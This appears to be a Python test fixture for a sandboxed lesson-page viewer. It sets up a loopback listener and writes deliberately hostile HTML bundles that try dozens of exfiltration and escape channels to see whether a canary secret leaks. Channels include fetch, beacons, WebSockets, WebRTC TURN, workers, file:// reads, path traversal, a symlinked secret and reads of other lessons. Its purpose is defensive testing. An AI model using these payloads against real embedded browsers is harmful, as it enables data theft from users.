"""Hostile lesson bundles and a loopback listener that records every TCP request and UDP
datagram they manage to send, for the sealed-page tests.

``Listener`` answers every TCP connection like a friendly web server (200, CORS open, an
event stream that stays open) so that a channel that gets through is seen; it keeps each
connection's first bytes. ``write_bundles`` makes, under one folder: the hostile bundle
(every channel at once, reporting what it got in the page title), a bundle that only
navigates away, another lesson's bundle and canary files outside the bundles, all holding
``SECRET``.
"""

from __future__ import annotations

import contextlib
import json
import socket
import socketserver
import threading
from dataclasses import dataclass, field
from pathlib import Path

SECRET = "canary-7f3a9c1e-do-not-leak"
HOSTILE = "hostile-lesson"
OTHER = "other-lesson"
NAVIGATE = "navigate-away"


@dataclass
class Hits:
    """What reached the listener: TCP request heads and UDP datagrams."""

    tcp: list[bytes] = field(default_factory=list)
    udp: list[bytes] = field(default_factory=list)
    lock: threading.Lock = field(default_factory=threading.Lock)

    def channels(self) -> set[str]:
        """The ``/c/<channel>`` names of the TCP requests (and "udp" for any datagram)."""
        with self.lock:
            names = {_channel(head) for head in self.tcp}
            if self.udp:
                names.add("udp")
        return names

    def everything(self) -> bytes:
        with self.lock:
            return b"".join(self.tcp + self.udp)


def _channel(head: bytes) -> str:
    line = head.split(b"\r\n", 1)[0].decode("latin-1")
    parts = line.split(" ")
    if len(parts) < 3 or not parts[2].startswith("HTTP/"):
        return "(not http)"  # e.g. a TURN allocation over TCP
    path = parts[1]
    if "/c/" in path:
        return path.split("/c/", 1)[1].split("?", 1)[0].split("/", 1)[0]
    return path


class _Handler(socketserver.BaseRequestHandler):
    def handle(self) -> None:
        conn: socket.socket = self.request
        conn.settimeout(2)
        try:
            head = conn.recv(65536)
        except OSError:
            return
        hits: Hits = self.server.hits  # type: ignore[attr-defined]
        with hits.lock:
            hits.tcp.append(head)
        event_stream = b"eventsource" in head.split(b"\r\n", 1)[0]
        kind = b"text/event-stream" if event_stream else b"text/plain"
        body = b"" if event_stream else b"listener-was-reached"
        reply = (b"HTTP/1.1 200 OK\r\nAccess-Control-Allow-Origin: *\r\nContent-Type: " + kind
                 + b"\r\nContent-Length: " + str(len(body)).encode() + b"\r\n\r\n" + body)
        with contextlib.suppress(OSError):
            conn.sendall(reply)


class _TCP(socketserver.ThreadingTCPServer):
    daemon_threads = True
    allow_reuse_address = True


class Listener:
    """A TCP and a UDP socket on 127.0.0.1 recording everything that arrives."""

    def __init__(self) -> None:
        self.hits = Hits()
        self._tcp = _TCP(("127.0.0.1", 0), _Handler)
        self._tcp.hits = self.hits  # type: ignore[attr-defined]
        self.port = self._tcp.server_address[1]
        self._udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self._udp.bind(("127.0.0.1", 0))
        self._udp.settimeout(0.2)
        self.udp_port = self._udp.getsockname()[1]
        self._stop = threading.Event()
        self._threads = [threading.Thread(target=self._tcp.serve_forever, daemon=True),
                         threading.Thread(target=self._read_udp, daemon=True)]
        for thread in self._threads:
            thread.start()

    def _read_udp(self) -> None:
        while not self._stop.is_set():
            try:
                data, _ = self._udp.recvfrom(65536)
            except TimeoutError:
                continue
            except OSError:
                return
            with self.hits.lock:
                self.hits.udp.append(data)

    def close(self) -> None:
        self._stop.set()
        self._tcp.shutdown()
        self._tcp.server_close()
        for thread in self._threads:
            thread.join(timeout=5)
        self._udp.close()


HOSTILE_PAGE = """<!doctype html>
<html><head><meta charset="utf-8"><title>hostile</title>
<script src="own.js"></script></head>
<body><p id="inline">inline</p>
<form id="form" method="post" action="__NET__form" target="sink">
<input name="secret" value="x"></form>
<iframe name="sink" id="sink"></iframe>
<script>
"use strict";
var NET = "__NET__";
var got = {};
window.ownInline = true;
function wait(ms, value) {
  return new Promise(function (ok) { setTimeout(function () { ok(value); }, ms); });
}
function attempt(name, make, ms) {
  var p;
  try { p = Promise.resolve(make()); } catch (e) { p = Promise.resolve("threw " + e.name); }
  return Promise.race([p, wait(ms || 1500, "no answer")]).then(
    function (v) { got[name] = String(v).slice(0, 300); },
    function (e) { got[name] = "failed " + String(e).slice(0, 80); });
}
function text(url) { return fetch(url).then(function (r) { return r.text(); }); }
function xhr(url) {
  return new Promise(function (ok, no) {
    var x = new XMLHttpRequest();
    x.open("GET", url);
    x.onload = function () { ok(x.responseText); };
    x.onerror = function () { no("xhr error"); };
    x.send();
  });
}
function element(tag, attrs, parent) {
  return new Promise(function (ok) {
    var e = document.createElement(tag);
    for (var k in attrs) { e.setAttribute(k, attrs[k]); }
    e.onload = function () { ok("loaded"); };
    e.onerror = function () { ok("error"); };
    (parent || document.body).appendChild(e);
  });
}
function frame(src) {
  return new Promise(function (ok) {
    var f = document.createElement("iframe");
    f.onload = function () {
      try { ok(f.contentDocument ? f.contentDocument.documentElement.outerHTML : "opaque"); }
      catch (e) { ok("cross-origin"); }
    };
    f.src = src;
    document.body.appendChild(f);
  });
}
function webrtc() {
  return new Promise(function (ok) {
    var pc = new RTCPeerConnection({iceServers: [
      {urls: "stun:127.0.0.1:__UDP__"},
      {urls: "turn:127.0.0.1:__UDP__?transport=udp", username: "u", credential: "c"},
      {urls: "turn:127.0.0.1:__TCP__?transport=tcp", username: "u", credential: "c"}]});
    var found = [];
    pc.onicecandidate = function (e) { if (e.candidate) found.push(e.candidate.candidate); };
    pc.onicegatheringstatechange = function () {
      if (pc.iceGatheringState === "complete") ok("gathered " + found.length);
    };
    pc.createDataChannel("x");
    pc.createOffer().then(function (o) { return pc.setLocalDescription(o); });
  });
}
var tries = [
  ["fetch", function () { return text(NET + "fetch"); }],
  ["xhr", function () { return xhr(NET + "xhr"); }],
  ["img", function () { return element("img", {src: NET + "img"}); }],
  ["css-link", function () {
    return element("link", {rel: "stylesheet", href: NET + "css-link"}, document.head); }],
  ["css-import", function () {
    var s = document.createElement("style");
    s.textContent = "@import url('" + NET + "css-import');"
      + " body { background-image: url('" + NET + "css-url'); }"
      + " @font-face { font-family: x; src: url('" + NET + "css-font'); }"
      + " p { font-family: x; }";
    document.head.appendChild(s);
    return wait(800, "sent");
  }],
  ["beacon", function () { return navigator.sendBeacon(NET + "beacon", "data"); }],
  ["websocket", function () {
    return new Promise(function (ok) {
      var w = new WebSocket(NET.replace("http:", "ws:") + "websocket");
      w.onopen = function () { ok("open"); };
      w.onerror = function () { ok("error"); };
    });
  }],
  ["eventsource", function () {
    return new Promise(function (ok) {
      var s = new EventSource(NET + "eventsource");
      s.onopen = function () { ok("open"); s.close(); };
      s.onerror = function () { ok("error"); s.close(); };
    });
  }],
  ["webrtc", webrtc, 3000],
  ["webrtc-blank-frame", function () {
    var f = document.createElement("iframe");
    document.body.appendChild(f);
    var Peer = f.contentWindow.RTCPeerConnection || f.contentWindow.webkitRTCPeerConnection;
    if (!Peer) { return "no RTCPeerConnection"; }
    var pc = new Peer({iceServers: [{urls: "turn:127.0.0.1:__TCP__?transport=tcp",
                                     username: "u", credential: "c"}]});
    pc.createDataChannel("x");
    return pc.createOffer().then(function (o) { return pc.setLocalDescription(o); })
      .then(function () { return wait(1500, "offered"); });
  }, 2500],
  ["webrtc-srcdoc-frame", function () {
    return new Promise(function (ok) {
      var f = document.createElement("iframe");
      f.srcdoc = "<p>x</p>";
      f.onload = function () {
        ok(f.contentWindow.RTCPeerConnection ? "has RTCPeerConnection" : "no RTCPeerConnection");
      };
      document.body.appendChild(f);
    });
  }],
  ["iframe", function () { return frame(NET + "iframe"); }],
  ["prefetch", function () {
    element("link", {rel: "prefetch", href: NET + "prefetch"}, document.head);
    element("link", {rel: "preload", as: "fetch", href: NET + "preload"}, document.head);
    element("link", {rel: "dns-prefetch", href: NET + "dns-prefetch"}, document.head);
    return wait(800, "sent");
  }],
  ["form", function () { document.getElementById("form").submit(); return wait(800, "sent"); }],
  ["window-open", function () {
    var w = window.open(NET + "window-open");
    return w ? "opened" : "null";
  }],
  ["media", function () { return element("video", {src: NET + "media"}); }],
  ["script", function () { return element("script", {src: NET + "script"}); }],
  ["file-fetch", function () { return text("__FILE__"); }],
  ["file-xhr", function () { return xhr("__FILE__"); }],
  ["file-frame", function () { return frame("__FILE__"); }],
  ["file-img", function () { return element("img", {src: "__FILE__"}); }],
  ["dotdot", function () { return text("lesson://__HOSTILE__/../canary.txt"); }],
  ["dotdot-encoded", function () { return text("lesson://__HOSTILE__/%2e%2e/canary.txt"); }],
  ["symlink", function () { return text("leak.txt"); }],
  ["other-fetch", function () { return text("lesson://__OTHER__/secret.html"); }],
  ["other-xhr", function () { return xhr("lesson://__OTHER__/secret.html"); }],
  ["other-frame", function () { return frame("lesson://__OTHER__/secret.html"); }],
  ["other-script", function () {
    return element("script", {src: "lesson://__OTHER__/secret.js"}).then(function (r) {
      return r + " " + (window.otherSecret || "");
    });
  }],
  ["qrc", function () { return text("qrc:///qtwebchannel/qwebchannel.js"); }],
  ["blob-worker", function () {
    var code = "fetch('" + NET + "blob-worker').then(function (r) { return r.text(); })"
      + ".then(function (t) { postMessage(t); }, function () { postMessage('failed'); });";
    return new Promise(function (ok) {
      var w = new Worker(URL.createObjectURL(new Blob([code], {type: "text/javascript"})));
      w.onmessage = function (e) { ok(e.data); };
      w.onerror = function () { ok("error"); };
    });
  }],
  ["data-worker", function () {
    return new Promise(function (ok) {
      var w = new Worker("data:text/javascript,fetch('" + NET + "data-worker');postMessage(1)");
      w.onmessage = function (e) { ok("ran"); };
      w.onerror = function () { ok("error"); };
    });
  }],
  ["service-worker", function () {
    if (!navigator.serviceWorker) { return "unavailable"; }
    return navigator.serviceWorker.register("sw.js").then(function () { return "registered"; });
  }],
  ["own-fetch", function () { return text("data.json"); }],
  ["lesson-json", function () { return text("lesson.json"); }],
  ["big-fetch", function () { return text("big.txt").then(function (t) { return t.length; }); }],
  ["channel", function () {
    var found = [typeof window.qt, typeof window.QWebChannel];
    for (var i = 0; i < window.frames.length; i += 1) {
      try { found.push(typeof window.frames[i].qt); } catch (e) { found.push("x"); }
    }
    return found.join(",");
  }],
  ["fake-call", function () {
    document.dispatchEvent(new CustomEvent("companion:call", {detail: JSON.stringify(
      {id: 1, name: "deleteLater", args: []})}));
    return wait(300, "sent");
  }],
];
var wanted = new URLSearchParams(location.hash.slice(1));
tries = tries.filter(function (t) {
  var only = wanted.get("only"), skip = wanted.get("skip");
  return (!only || only.split(",").indexOf(t[0]) >= 0)
    && (!skip || skip.split(",").indexOf(t[0]) < 0);
});
Promise.all(tries.map(function (t) { return attempt(t[0], t[1], t[2]); })).then(function () {
  got.ownFile = String(window.ownFile === true);
  got.ownInline = String(window.ownInline === true);
  var bridge = window.companion;
  got.bridge = bridge ? Object.keys(bridge).sort().join(",") : "none";
  if (bridge) {
    var said = Object.keys(got).map(function (k) { return k + "=" + got[k]; }).join(";");
    bridge.answer(said.slice(0, 190), true);
  }
  document.title = "done:" + JSON.stringify(got);
});
</script></body></html>
"""

NAVIGATE_PAGE = """<!doctype html>
<html><head><meta charset="utf-8"><title>away</title></head><body>
<form id="form" method="post" action="__NET__form-top"><input name="a" value="b"></form>
<script>
var how = location.hash.slice(1);
if (how === "location") { location.href = "__NET__location"; }
else if (how === "form") { document.getElementById("form").submit(); }
else if (how === "other") { location.href = "lesson://__OTHER__/secret.html"; }
else if (how === "file") { location.href = "__FILE__"; }
</script></body></html>
"""


def _fill(page: str, listener: Listener, canary: Path) -> str:
    return (page.replace("__NET__", f"http://127.0.0.1:{listener.port}/c/")
            .replace("__UDP__", str(listener.udp_port)).replace("__TCP__", str(listener.port))
            .replace("__FILE__", canary.resolve().as_uri())
            .replace("__HOSTILE__", HOSTILE).replace("__OTHER__", OTHER))


def write_bundles(folder: Path, listener: Listener) -> dict[str, Path]:
    """The hostile, navigating and other bundles' roots under ``folder``, by lesson id."""
    canary = folder / "canary.txt"
    folder.mkdir(parents=True, exist_ok=True)
    canary.write_text(SECRET)
    hostile = folder / "bundles" / HOSTILE
    hostile.mkdir(parents=True)
    (hostile / "index.html").write_text(_fill(HOSTILE_PAGE, listener, canary))
    (hostile / "own.js").write_text("window.ownFile = true;\n")
    (hostile / "data.json").write_text(json.dumps({"own": "data"}))
    (hostile / "big.txt").write_text("b" * 200_000)
    (hostile / "sw.js").write_text(f"fetch('http://127.0.0.1:{listener.port}/c/sw');\n")
    (hostile / "leak.txt").symlink_to(canary)
    (hostile / "lesson.json").write_text(json.dumps({
        "id": HOSTILE, "title": "Hostile", "course": "hostile-course", "courseTitle": "Hostile",
        "subject": "Math", "grade": "05", "order": 1, "answerKey": {"q1": [SECRET]},
    }))
    (folder / "bundles" / "canary.txt").write_text(SECRET)
    navigate = folder / "bundles" / NAVIGATE
    navigate.mkdir()
    (navigate / "index.html").write_text(_fill(NAVIGATE_PAGE, listener, canary))
    other = folder / "bundles" / OTHER
    other.mkdir()
    (other / "secret.html").write_text(f"<p>{SECRET}</p>")
    (other / "secret.js").write_text(f"window.otherSecret = {SECRET!r};\n")
    return {HOSTILE: hostile, NAVIGATE: navigate, OTHER: other}
